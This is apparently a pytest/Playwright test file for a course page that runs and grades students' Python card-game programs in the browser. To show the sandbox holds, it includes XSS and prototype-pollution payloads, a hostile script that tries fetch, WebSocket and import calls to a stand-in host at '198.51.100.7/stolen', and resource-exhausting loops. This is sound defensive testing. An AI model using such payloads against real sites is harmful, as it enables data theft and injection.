"""Students' own classes in Chromium, checked, dealt and stepped through without a network."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Final

import flask
import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser

from course.grading.sheets import SHEETS
from course.grading.submission import read_submission
from tests.course.support import (
    MUTANTS,
    SOLUTIONS,
    copy_of,
    grading,
    lost,
    mutated,
    outdented,
    slug_of,
)
from tests.course.test_fairness import VARIANTS
from tests.own.conftest import Own
from tests.support.browser import accessibility_faults
from tests.support.renamed import STUDENTS, write_student
from web.sheets import views

OpenOwn = Callable[[str], Own]


def test_an_ace_of_eleven_is_checked_dealt_and_stepped_to(own: OpenOwn, tmp_path: Path) -> None:
    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
    cards = folder / "playingCards.py"
    wrong = 'return 11 if self.__rank == "A" else VALUES[self.__rank]'
    cards.write_text(cards.read_text().replace("return VALUES[self.__rank]", wrong))
    line = 1 + [wrong in text for text in cards.read_text().split("\n")].index(True)
    page = own("simple-21")
    assert page.page.locator("#choose").is_visible(), "says why nothing can be pressed yet"
    paper = "e => getComputedStyle(e).backgroundColor"
    looks = {page.page.locator(name).evaluate(paper) for name in ("#check", "#sit")}
    assert len(looks) == 1, "none of the buttons that are disabled looks ready"
    page.choose(folder)
    assert not page.page.locator("#choose").is_visible()
    page.press("#check")
    assert page.page.evaluate("document.activeElement.id") == "report-title"
    assert "S0-6" in page.unmet()
    assert page.page.locator("#results li").count() == 78
    assert page.points() == f"{78 - len(page.unmet())} of 78"
    assert page.page.inner_text("#report-title") == f"{len(page.unmet())} to fix"
    assert page.page.locator("#failing > li").first.locator("dd.bad").is_visible()
    assert not page.page.locator("#passing > li").first.is_visible(), "what passes is folded"
    assert "`" not in page.page.inner_text("#report")
    page.press("#sit")
    assert page.page.locator("#felt .hand").count() == 2
    for _ in range(60):
        if page.page.locator("#difference").is_visible():
            break
        page.press("#moves button:first-child")
    told = page.page.inner_text("#difference")
    assert "S0-6: An ace counts 1, never 11." in told
    assert f"Check playingCards.py, line {line}." in told
    assert re.search(r"The sheet's\s+1\s+Yours\s+11", told)
    assert page.page.inner_text("#where").startswith("Step ")
    page.page.get_by_text("The steps as a list").click()
    page.until(lambda: page.page.locator("#step-list li").count() > 10)
    assert accessibility_faults(page.page) == []


@pytest.mark.slow
def test_crash_leads_to_its_line_for_fixing(own: OpenOwn, tmp_path: Path) -> None:
    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
    table = folder / "simple21.py"
    source, call = table.read_text(), "(self.__nextCard())"
    table.write_text(source.replace(call, "(self.__next())", 1))
    line = 1 + source[: source.index(call)].count("\n")
    page = own("simple-21")
    page.choose(folder)
    page.page.focus("#sit")
    page.page.keyboard.press("Enter")
    page.until(page.page.locator("#difference").is_visible)
    page.page.locator("#sit:focus").wait_for()
    page.page.click("#blamed")
    assert f"simple21.py, line {line}," in page.page.inner_text("#where")
    page.page.click("#difference button")
    page.page.keyboard.type(source.split("\n")[line - 1])  # replaces the selected line
    page.page.click("#close")
    page.page.locator("#chosen button:focus").wait_for()
    page.press("#sit")
    assert page.page.locator("#difference").is_hidden()


@pytest.mark.slow
def test_a_table_of_bingo_is_dealt_and_a_card_called(own: OpenOwn, tmp_path: Path) -> None:
    page = own("bingo")
    page.choose(copy_of(SHEETS["bingo"], tmp_path / "files"))
    page.press("#sit")
    assert page.page.locator("#felt .grid").count() == 2
    page.press("#moves button:has-text('Call a card')")
    assert page.page.locator("#difference").is_hidden()
    assert page.page.locator("#source .now").count() == 1
    files = page.kept()
    assert files
    page.page.reload()
    page.until(lambda: page.names() == sorted(files))
    page.page.click("#forget")
    page.until(lambda: page.names() == [])
    assert page.kept() == {}


@pytest.mark.slow
def test_an_endless_loop_costs_its_own_checks_alone(own: OpenOwn, tmp_path: Path) -> None:
    """Python's own limit ends an endless recursion, unless the program catches the error."""
    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
    cards = folder / "playingCards.py"
    source = cards.read_text()
    assert source.count("self.__faceUp = not self.__faceUp") == 1
    loop = "self.__faceUp = not self.__faceUp\n        while self.__suit == 'C': pass"
    cards.write_text(source.replace("self.__faceUp = not self.__faceUp", loop))
    page = own("simple-21")
    page.choose(folder)
    page.press("#sit")
    for _ in range(30):
        if page.page.locator("#difference").is_visible():
            break
        page.press("#moves button:first-child")
    assert "it did not end within 3 seconds" in page.page.inner_text("#difference")


def test_without_a_script_the_page_names_the_command(browser: Browser, own_site: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{own_site}/sheets/war/try")
    assert "python -m course.grade war FOLDER" in page.inner_text("main")
    context.close()


def test_without_webassembly_the_page_names_the_command(browser: Browser, own_site: str) -> None:
    context = browser.new_context(locale="de-DE")
    context.add_init_script("delete globalThis.WebAssembly")
    page = context.new_page()
    page.goto(f"{own_site}/sheets/war/try")
    page.locator("#unable").wait_for()
    assert "python -m course.grade war FOLDER" in page.inner_text("#unable")
    assert page.locator("#own").is_hidden()
    assert accessibility_faults(page) == []
    context.close()


def test_other_pages_load_nothing_of_it(client: FlaskClient) -> None:
    for path in ("/", "/simple-21", "/bingo", "/sheets", "/lab", "/settings"):
        page = client.get(path).get_data(as_text=True)
        linked = re.findall(r'(?:src|href)="([^"]+\.(?:js|css|wasm|zip))"', page)
        assert linked
        assert not [each for each in linked if "/try" in each or "/python/" in each], path


def test_missing_runtime_is_named_on_the_page(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(views, "find_runtime", views.Runtime)
    page = client.get("/sheets/bingo/try").get_data(as_text=True)
    assert "<code>make setup</code>" in page
    assert "python -m course.grade bingo FOLDER" in page
    assert "data-python" not in page
    assert client.get("/sheets/poker/try").status_code == 404


def test_the_runtime_is_immutable_compressed_and_locked_down(
    runtime: Path, app: flask.Flask
) -> None:
    assert runtime.is_dir()
    client = app.test_client()
    address = f"/sheets/python/{views.find_runtime().hash}"
    answer = client.get(
        f"{address}/worker.js", headers={"Accept-Encoding": "br, gzip"}, buffered=True
    )
    assert answer.status_code == 200
    assert answer.headers["Content-Encoding"] == "br"
    assert "immutable" in answer.headers["Cache-Control"]
    policy = answer.headers["Content-Security-Policy"]
    assert policy == "default-src 'none'; script-src 'wasm-unsafe-eval'"
    assert "Cookie" not in answer.headers.get("Vary", "")
    assert client.get(f"{address}/python.wasm", buffered=True).content_type == "application/wasm"
    assert "Mozilla Public License" in client.get(f"{address}/NOTICE.txt", buffered=True).get_data(
        as_text=True
    )
    assert client.get("/sheets/python/0123456789abcdef/worker.js").status_code == 404


MESSAGES = (
    {"kind": "result", "id": "<img src=x onerror=alert(1)>", "text": "<b>x</b>", "passed": True,
     "points": "1e9", "worth": "1", "lines": [], "__proto__": {"polluted": 1}},
    {"kind": "table", "moves": [], "steps": [], "compared": True, "broken": "", "printed": "",
     "difference": None,
     "html": "<img src=//198.51.100.7/x><script>alert(1)</script><a href=javascript:alert(1)>x</a>"
             "<form action=/settings><button>y</button></form><style>*{display:none}</style>"
             "<div class=evil onclick=alert(1) id=check style=position:fixed>z</div>"},
)  # fmt: skip
HOSTILE = """
import js, sys, time
from pyodide.code import run_js

def attempt(act):
    try:
        act()
    except BaseException as error:
        pass

def reach():
    origin = str(js.location.origin)
    for address in (origin + "/simple-21", "http://198.51.100.7/stolen"):
        attempt(lambda: js.XMLHttpRequest.new().open("GET", address, False))
        def send():
            request = js.XMLHttpRequest.new()
            request.open("GET", address, False)
            request.send()
        attempt(send)
        attempt(lambda: js.WebSocket.new(address.replace("http", "ws")))
        attempt(lambda: js.EventSource.new(address))
        attempt(lambda: js.fetch(address))
        attempt(lambda: js.Worker.new(address))
        attempt(lambda: js.importScripts(address))
        attempt(lambda: run_js("import(%r)" % address))
        attempt(lambda: js.Function.new("return import(%r)" % address)())
        attempt(lambda: js.eval("fetch(%r)" % address))
    attempt(lambda: js.indexedDB.deleteDatabase("cardgames-own"))
    for message in MESSAGES:
        attempt(lambda: js.postMessage(js.JSON.parse(message)))


reach()
"""


@pytest.mark.slow
def test_a_hostile_file_reaches_nothing(
    browser: Browser, own_site: str, noting_proxy: tuple[str, list[str]], tmp_path: Path
) -> None:
    """A proxy records every request of the browser; the program causes no request."""
    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
    cards = folder / "playingCards.py"
    messages = [json.dumps(message) for message in MESSAGES]
    cards.write_text(f"MESSAGES = {messages!r}\n{HOSTILE}{cards.read_text()}")
    proxy, seen = noting_proxy
    context = browser.new_context(proxy={"server": proxy})
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    own = Own(page, own_site, "simple-21")
    own.choose(folder)
    loaded = len(seen)
    assert any(url.endswith("/python.wasm") for url in seen), "the proxy sees what is loaded"
    own.press("#sit")
    own.press("#check")
    page.wait_for_timeout(500)
    later = [url for url in seen[loaded:] if not re.search(r"/static/\w+/cards/[\w.]+$", url)]
    assert later == []
    assert dialogs == []
    assert page.evaluate("({}).polluted") is None
    felt = page.inner_html("#felt")
    assert not re.search(r"198\.51|<script|javascript:|<form|<style|onclick|onerror|style=", felt)
    assert page.locator("#check").count() == 1
    assert page.locator("#chosen li").count() > 0
    page.reload()
    own.until(lambda: page.locator("#chosen li").count() > 0)  # The database is still there.
    context.close()


SILENT: Final = "a loop in C"
"""A program that Python cannot interrupt. The page terminates the worker after 30 seconds without
messages.
"""

GREEDY = {
    "memory": "hog = []\n        while True: hog.append([0] * 10**7)",
    "recursion": "import sys; sys.setrecursionlimit(10**8)\n        f = lambda n: f(n + 1) + 1\n"
    "        f(0)",
    SILENT: "sum(iter(int, 1))",
    "deep recursion in C": "x = []\n        for _ in range(10**6): x = [x]\n        repr(x)",
}


@pytest.mark.slow
def test_greedy_program_is_stopped_and_the_next_one_deals(own: OpenOwn, tmp_path: Path) -> None:
    page = own("simple-21")
    page.page.clock.install()
    for name, greed in GREEDY.items():
        folder = copy_of(SHEETS["simple-21"], tmp_path / name)
        table = folder / "simple21.py"
        source, start = table.read_text(), "def dealHands(self)"
        head, _, rest = source.partition(start)
        line, _, body = rest.partition("\n")
        table.write_text(f"{head}{start}{line}\n        {greed}\n{body}")
        page.choose(folder)
        page.page.click("#sit")
        if name == SILENT:
            page.page.clock.fast_forward(29_000)
            assert page.is_busy()
            page.page.clock.fast_forward(1_000)
        page.until(lambda: not page.is_busy())
        status, told = page.status(), page.page.inner_text("#difference")
        assert re.search("ran too long|had to stop|stopped here", status + told), name
        page.choose(copy_of(SHEETS["simple-21"], tmp_path / f"good after {name}"))
        page.press("#sit")
        assert page.page.locator("#felt .hand").count() == 2, name
        assert page.page.locator("#difference").is_hidden(), name


@pytest.mark.slow
def test_html_in_a_students_text_stays_text(own: OpenOwn, tmp_path: Path) -> None:
    folder = copy_of(SHEETS["blackjack"], tmp_path / "files")
    program = folder / "blackjack.py"
    evil = "<img src=x onerror=alert(1)><script>alert(1)</script>"
    source = program.read_text()
    assert source.count('TITLE = "Blackjack"') == 1
    program.write_text(source.replace('TITLE = "Blackjack"', f"TITLE = {evil!r}; print(TITLE)"))
    page = own("blackjack")
    page.choose(folder)
    page.press("#sit")
    assert evil in page.page.locator("#felt svg text").first.text_content()
    assert page.page.locator("#felt script, #felt [onerror], #felt [src='x']").count() == 0
    assert page.page.locator("#felt .hand").count() == 2
    for button in ("Deal", "Hit"):
        page.press(f"#moves button:has-text('{button}')")
    step = page.page.locator("#step")
    step.focus()
    page.page.keyboard.press("Home")
    for _ in range(int(step.get_attribute("max") or 0)):
        if page.page.locator("#objects del").count():
            break
        page.page.keyboard.press("ArrowRight")
    assert page.page.locator("#objects del .own-card").count() == 1, "the card that has just left"
    page.press("#moves button:has-text('Stand')")
    assert page.page.locator("#difference").is_hidden()
    assert accessibility_faults(page.page) == []


_SCROLL: Final = "e => [e.scrollTop, e.scrollLeft, e.getBoundingClientRect().left]"

_COLOURED: Final = """async text => {
    const root = document.getElementById("own").dataset.static;
    const nodes = (await import(`${root}/try-colours.js`)).coloured(text);
    return nodes.filter(node => node.className).map(node => [node.className, node.textContent]);
}"""

PROGRAM: Final = """class Card:  # a 'card'
    '''It's
    def nothing.'''
    def __str__(self):
        return f"{self.rank} of # \\"" + 'suit
        return define10 + 10.5
"""


def test_editor_colours_python(own: OpenOwn) -> None:
    """Strings may contain "#" and Python keywords. An unclosed string ends with its line."""
    page = own("war")
    assert page.page.evaluate(_COLOURED, PROGRAM) == [
        ["keyword", "class"],
        ["name", "Card"],
        ["comment", "# a 'card'"],
        ["string", "'''It's\n    def nothing.'''"],
        ["keyword", "def"],
        ["name", "__str__"],
        ["keyword", "self"],
        ["keyword", "return"],
        ["string", 'f"{self.rank} of # \\""'],
        ["string", "'suit"],
        ["keyword", "return"],
        ["number", "10.5"],
    ]


@pytest.mark.slow
def test_starter_is_edited_and_saved(browser: Browser, own_site: str) -> None:
    """The page on a phone, by keyboard, in German and in dark mode."""
    context = browser.new_context(
        viewport={"width": 320, "height": 640}, locale="de-DE", color_scheme="dark"
    )
    page = context.new_page()
    own = Own(page, own_site, "blackjack")
    own.press("#starter")
    code = page.locator("#code")
    own.until(lambda: "class Hand" in code.input_value())
    line = code.evaluate("e => e.value.slice(e.selectionStart, e.selectionEnd)")
    assert line == "        pass  # begin with an empty list of cards"
    assert page.inner_text("#first-step code") == "Hand.__init__"
    assert "simplegui.load_image(" in code.input_value(), "the sheet gives more than names"
    code.focus()
    page.keyboard.press("Control+End")
    page.keyboard.type("\nif True:\nx = 1")
    assert code.input_value().endswith("if True:\n    x = 1")
    lines = code.input_value().count("\n") + 1
    assert page.inner_text("#numbers").split()[-1] == str(lines)
    assert page.text_content("#coloured") == code.input_value() + "\n"
    assert code.evaluate(_SCROLL) == page.locator("#coloured").evaluate(_SCROLL)
    page.click("#close")
    typed = code.input_value()
    own.until(lambda: typed in own.kept().values())  # stored without a message
    page.reload()
    page.click("#chosen li button:first-child")
    assert code.input_value() == typed
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    assert accessibility_faults(page) == []
    context.close()


@pytest.mark.slow
def test_starter_docstrings_stand_with_their_code(own: OpenOwn) -> None:
    """The browser's Python is newer, and its compiler removes docstrings' indentation."""
    page = own("war")
    page.press("#starter")
    page.until(page.kept)
    (text,) = page.kept().values()
    assert "\n        Args:\n            rank: 2 to 10" in text
    assert outdented(text) == []


@pytest.mark.slow
def test_files_are_bounded_together(own: OpenOwn, tmp_path: Path) -> None:
    page = own("war")
    for part in range(5):
        folder = tmp_path / str(part)
        folder.mkdir()
        (folder / f"part{part}.py").write_text("#" * 1_000_000)
        page.page.set_input_files("#files", folder / f"part{part}.py")
        wanted = min(part + 1, 4)
        page.until(lambda: page.page.locator("#chosen li").count() == wanted)  # noqa: B023
    page.until(lambda: "too large or too many" in page.status())
    for left in (3, 2, 1, 0):
        page.page.click("#chosen li:first-child button:last-child")
        page.until(lambda: len(page.names()) == left == len(page.kept()))  # noqa: B023


@pytest.mark.slow
@pytest.mark.parametrize("slug", SHEETS)
def test_points_are_those_of_the_grader(own: OpenOwn, slug: str, tmp_path: Path) -> None:
    """Our solution, the students' programs, and a few of the grader's tests.

    All programs that do not end are included, because for these a browser differs most from a
    process.
    """
    folders = {"ours": copy_of(SHEETS[slug], tmp_path / "ours")}
    folders |= {folder.name: folder for folder in sorted((SOLUTIONS / slug).iterdir())}
    mutant = next(one for one in MUTANTS if slug_of(one) == slug)
    folders[mutant] = mutated(mutant, tmp_path / mutant)
    names = [name for name, variant in VARIANTS.items() if variant.slug == slug]
    endless = {name for name in names if "not end" in name}
    for number, name in enumerate(sorted({*names[::20], *endless})):
        folders[name] = VARIANTS[name].write(tmp_path / f"variant{number}")
    page = own(slug)
    unlike = {}
    grade = grading()
    for name, folder in folders.items():
        if page.page.locator("#forget").is_visible():
            page.page.click("#forget")
        page.choose(folder)
        page.press("#check")
        native = lost(grade(slug, folder))
        if page.unmet() != native:
            unlike[name] = (page.unmet(), native)
    assert unlike == {}


@pytest.mark.slow
def test_renamed_files_are_checked(own: OpenOwn, tmp_path: Path) -> None:
    page = own("one-deck")
    page.page.set_input_files("#files", [*write_student("coding", tmp_path / "coding").iterdir()])
    page.until(lambda: page.status() == "Python is ready.")
    page.press("#check")
    assert page.unmet() == []


@pytest.mark.slow
@pytest.mark.parametrize("slug", sorted({slug for slug, _ in STUDENTS.values()}))
def test_renamed_files_are_read_as_the_grader_reads_them(
    own: OpenOwn, tmp_path: Path, slug: str
) -> None:
    """The files are those that ``test_renamed_files_are_graded_like_plain_ones`` grades."""
    page = own(slug)
    for name in [name for name, student in STUDENTS.items() if student[0] == slug]:
        folder = write_student(name, tmp_path / name)
        texts, notes = read_submission(folder, SHEETS[slug])
        page.page.set_input_files("#files", [*folder.iterdir()])
        page.until(lambda: page.kept() == texts)  # noqa: B023
        assert page.page.locator("#unused li").all_inner_texts() == notes, name
        page.page.click("#forget")
        page.until(lambda: page.names() == [] and page.kept() == {})
